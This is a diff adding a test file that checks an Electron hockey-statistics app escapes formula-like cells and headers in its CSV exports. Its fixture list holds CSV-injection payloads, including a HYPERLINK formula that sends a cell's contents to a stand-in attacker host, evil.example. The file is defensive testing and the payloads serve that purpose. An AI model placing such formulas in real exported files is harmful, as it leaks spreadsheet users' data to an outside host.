@@ -1,0 +1,137 @@
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import Papa from 'papaparse';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { createExports, type Exports } from '../../../electron/host/export/export-handlers.ts';
+import { createServiceClient } from '../../../electron/host/service-client.ts';
+import { openSettings } from '../../../electron/host/settings.ts';
+import { SCORING_COLUMNS } from '../../../shared/columns.ts';
+import { type Fixture, startFixture } from '../../contract/service-fixture.ts';
+import { settleExport } from './export-settle.ts';
+
+// Formulas in CSV exports, through the real export job and writer, with the real local service behind
+// exportTable; files read back with papaparse. Expected cells are the test's literals or the service's
+// own numbers fetched by the test.
+
+let fx: Fixture;
+let dir: string;
+
+beforeAll(async () => {
+  fx = await startFixture();
+  dir = await mkdtemp(join(tmpdir(), 'rinkside-export-formulas-'));
+}, 60_000);
+afterAll(async () => {
+  await fx?.close();
+  await rm(dir, { recursive: true, force: true });
+});
+
+async function exportsIn(outDir: string): Promise<Exports> {
+  return createExports({
+    client: createServiceClient(),
+    settings: await openSettings(join(outDir, 'settings')),
+    baseUrl: () => fx.base,
+    keyFor: () => fx.keys.full,
+    chooseFile: async (suggested) => join(outDir, suggested.split('/').at(-1) as string),
+    downloadDir: join(outDir, 'downloads'),
+  });
+}
+
+/** The CSV file's rows, byte-order mark dropped, as papaparse reads them. */
+async function csvRows(file: string): Promise<string[][]> {
+  const text = (await readFile(file, 'utf8')).replace(/^\uFEFF/, '');
+  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
+}
+
+/** Text cells that a spreadsheet would run, each with a line break after the formula. */
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")\nsecond line',
+  '=1+1\r\nsecond line',
+  '+A1*2\nx',
+  '-A1+3\r\ny',
+  '@SUM(A1:A9)\n',
+  '\t=1+1\ntab first',
+  '\r=1+1\nreturn first',
+];
+
+describe('formulas in CSV exports', () => {
+  it('a text cell that starts like a formula is escaped whatever follows it, line breaks included', async () => {
+    const out = await mkdtemp(join(dir, 'multiline-'));
+    const ex = await exportsIn(out);
+    const table = {
+      columns: ['Note', 'Value'],
+      rows: [
+        ...FORMULAS.map((f, i) => [f, i]),
+        ['plain text\n=1+1 on the second line', -3],
+        ['Sunny; =1+1 later', null],
+      ],
+      context: { view: 'Compare profile' },
+    };
+    const started = await ex.handlers.exportRows({ table, format: 'csv' });
+    if (!started.ok) throw new Error(started.error.message);
+    const done = await settleExport(ex, started.value.id);
+    expect(done.state).toBe('done');
+    const [header, ...rows] = await csvRows(join(out, 'rinkside-compare-profile.csv'));
+    expect(header).toEqual(['Note', 'Value']);
+    expect(rows.map((r) => r[0])).toEqual([
+      ...FORMULAS.map((f) => `'${f}`),
+      'plain text\n=1+1 on the second line',
+      'Sunny; =1+1 later',
+    ]);
+    // Numbers are numbers, never escaped: a negative one reads `-3`.
+    expect(rows.map((r) => r[1])).toEqual([...FORMULAS.map((_, i) => String(i)), '-3', '']);
+  });
+
+  it("the catalog's own headers go out as written (`+/-`); a page's header that starts like a formula is escaped", async () => {
+    const out = await mkdtemp(join(dir, 'headers-'));
+    const ex = await exportsIn(out);
+    const cols = SCORING_COLUMNS.regularStats.filter((c) =>
+      ['player', 'regularStats.GP', 'regularStats.PM'].includes(c.id),
+    );
+    expect(cols.map((c) => c.abbr)).toEqual(['Player', 'GP', '+/-']);
+    // The team with a skater of the most negative plus-minus, so the file must carry a negative number.
+    const [row] = fx.sql<{ teamId: number; seasonSlug: string }>(
+      'SELECT teamId, seasonSlug FROM player_stats WHERE isGoalie = 0 AND reg_PM < 0 ORDER BY reg_PM, id LIMIT 1',
+    );
+    if (!row) throw new Error('no skater with a negative +/-');
+    const query = { season: row.seasonSlug, sort: 'regularStats.PM', limit: '100', offset: '0' };
+    const started = await ex.handlers.exportTable({
+      spec: {
+        endpoint: 'teamPlayerStats',
+        path: { id: row.teamId },
+        query,
+        columns: cols.map((c) => ({ id: c.id, header: c.abbr })),
+        context: { view: 'Scoring', teamCode: 'TST', season: row.seasonSlug },
+      },
+      format: 'csv',
+      scope: 'all',
+    });
+    if (!started.ok) throw new Error(started.error.message);
+    const done = await settleExport(ex, started.value.id);
+    expect(done.state).toBe('done');
+    const [header, ...rows] = await csvRows(join(out, `rinkside-scoring-TST-${row.seasonSlug}.csv`));
+    expect(header).toEqual(['Player', 'GP', '+/-']);
+
+    const r = await fx.get(`/teams/${row.teamId}/player-stats?${new URLSearchParams(query)}`);
+    expect(r.status).toBe(200);
+    const pm = (r.body.data as { regularStats: { PM?: number | null } | null }[]).map(
+      (d) => d.regularStats?.PM ?? null,
+    );
+    expect(pm.some((v) => v !== null && v < 0)).toBe(true);
+    expect(rows.map((x) => x[2])).toEqual(pm.map((v) => (v === null ? '' : String(v))));
+
+    // A chart table's headers are the page's (team names from the data): one that starts like a formula is escaped.
+    const rowsOut = await mkdtemp(join(dir, 'rows-headers-'));
+    const exRows = await exportsIn(rowsOut);
+    const chart = await exRows.handlers.exportRows({
+      table: { columns: ['Metric', '=Evil Club', '+/-'], rows: [['GD', 3, -3]], context: { view: 'Compare profile' } },
+      format: 'csv',
+    });
+    if (!chart.ok) throw new Error(chart.error.message);
+    expect((await settleExport(exRows, chart.value.id)).state).toBe('done');
+    expect(await csvRows(join(rowsOut, 'rinkside-compare-profile.csv'))).toEqual([
+      ['Metric', "'=Evil Club", "'+/-"],
+      ['GD', '3', '-3'],
+    ]);
+  });
+});
